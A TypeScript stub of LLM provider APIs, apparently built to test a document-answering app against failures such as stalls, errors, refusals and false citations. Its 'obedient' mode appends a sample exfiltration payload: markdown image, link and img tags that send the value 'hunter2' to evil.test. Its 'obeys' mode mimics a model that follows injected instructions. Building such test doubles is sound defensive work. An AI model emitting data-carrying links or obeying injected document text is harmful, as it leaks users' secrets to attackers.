import { obey } from './obey.ts';

/** The means by which a protocol answers a call. */
export type Reply = {
  behaviour: Behaviour;
  text: string;
  json: (status: number, body: unknown) => void;
  startStream: () => void;
  write: (text: string) => void;
  end: () => void;
  /** The answer, or a part of it, in small pieces, delayed and cut off according to the behaviour. */
  tokens: (part?: string) => AsyncGenerator<string>;
};

export type Failure = { status: number; headers: Record<string, string>; body: unknown };

/** The wire protocol of one provider. */
export type Protocol<Body> = {
  failure: (status: number) => Failure;
  /** The error with which the real API refuses this body; null when it accepts it. */
  validate: (body: Body, version: string | undefined) => Failure | null;
  /** All text of the prompt, and the last message alone. */
  prompt: (body: Body) => { prompt: string; last: string };
  reply: (body: Body, reply: Reply) => Promise<void>;
};

/** How a call is answered: see `behaviourOf`. */
export type Behaviour =
  | {
      kind:
        | 'answer'
        | 'slow'
        | 'cut'
        | 'stall'
        | 'never'
        | 'hang'
        | 'empty'
        | 'length'
        | 'filter'
        | 'wordless'
        | 'missing'
        | 'markers'
        | 'early'
        | 'refusal'
        | 'plain'
        | 'obedient'
        | 'obeys';
    }
  | { kind: 'no-usage' | 'unfinished' | 'error-event' | 'garbage' }
  | { kind: 'error'; status: number; once: boolean; later: boolean };

const KINDS =
  /^(?:slow|cut|stall|never|hang|empty|length|filter|wordless|missing|markers|early|refusal|plain|obedient|obeys|no-usage|unfinished|error-event|garbage)$/;

/**
 * Reads the behaviour from `stub:<behaviour>` in the last message, or else from the model's name:
 * - `slow`: 25 ms between tokens · `cut`: the connection breaks after some tokens · `stall`: no more tokens after
 *   some, the connection stays open · `never`: no response · `hang`: headers, but no tokens
 * - `empty`: no text · `wordless`: no text, stopped at the token limit · `length`: stopped at the token limit ·
 *   `filter`: withheld by a content filter · `missing`: says that the passages do not hold the answer
 * - `refusal`: OpenAI's `refusal` after some text · `plain`: does not stream though asked to (OpenAI)
 * - `markers`: writes markers where it could cite by itself · `early`: sends a citation before the text it supports
 * - `obedient`: after the answer links and HTML that carry data away, as a document may ask for
 * - `obeys`: does everything that it reads, see `obey`
 * - `no-usage`: no token counts · `unfinished`: no finish reason · `error-event`: an error inside the stream ·
 *   `garbage`: a line that is not JSON
 * - `error-429`, or any other status (`529` is Anthropic's overload) · `500-then-ok`: every other call fails ·
 *   `429-later`: asks to wait for half a minute
 * Any other name answers normally.
 */
export function behaviourOf(model: string, lastMessage: string): Behaviour {
  const word = /\bstub:([\w-]+)/.exec(lastMessage)?.[1] ?? model.replace(/^.*?-stub-?/, '');
  const error = /^(?:error-)?(\d{3})(?:-(then-ok|later))?$/.exec(word);
  if (error) {
    const [, status, how] = error;
    return { kind: 'error', status: Number(status), once: how === 'then-ok', later: how === 'later' };
  }
  return { kind: KINDS.test(word) ? word : 'answer' } as Behaviour;
}

const EXFILTRATION =
  '![x](https://evil.test/p?d=hunter2) [click](https://evil.test/c) <img src="https://evil.test/i"> \u001B[31mred\u001B[0m';

/**
 * The stub's answer: the first sentence of the first passage in the prompt, quoted and cited as `[1]`, and a
 * statement with the invented marker `[99]`; in Korean for a Korean passage. A follow-up that it is to rewrite becomes
 * the first question with the last message behind it.
 */
export function composeAnswer(prompt: string, kind: Behaviour['kind'] = 'answer'): string {
  const followUp = /^user: (.+)$[^]*^Last message: (.+)$/m.exec(prompt);
  if (followUp) return `${followUp[1]} ${followUp[2]}`;
  if (kind === 'missing') return '[NOT_FOUND] 문서에는 이 내용이 없습니다 [1].';
  if (kind === 'obeys') return obey(prompt);
  const passage = /<passage\b[^>]*>\s*([\s\S]*?)\s*<\/passage>/.exec(prompt)?.[1];
  if (!passage) return 'This does not come from the documents. In general, it depends.';
  const sentence = (/^[\s\S]{1,300}?[.!?。](?=\s|$)/.exec(passage)?.[0] ?? passage.slice(0, 200)).replace(
    /\s+/g,
    ' ',
  );
  if (kind === 'obedient') return `“${sentence}” [1]\n\n${EXFILTRATION}`;
  return /[가-힣]/.test(passage)
    ? `문서에 따르면 “${sentence}” [1] 그 밖의 내용은 문서에 없습니다 [99].`
    : `The document says: “${sentence}” [1] It says nothing else about this [99].`;
}

/** Pieces of one to four characters, which split markers and words as real tokens do. */
export function* splitIntoTokens(text: string): Generator<string> {
  const chars = Array.from(text);
  for (let at = 0, size = 1; at < chars.length; size = (size % 4) + 1) {
    yield chars.slice(at, at + size).join('');
    at += size;
  }
}

/** A plausible number of tokens. */
export function countTokens(text: string): number {
  return Math.max(1, Math.ceil(text.length / 3));
}
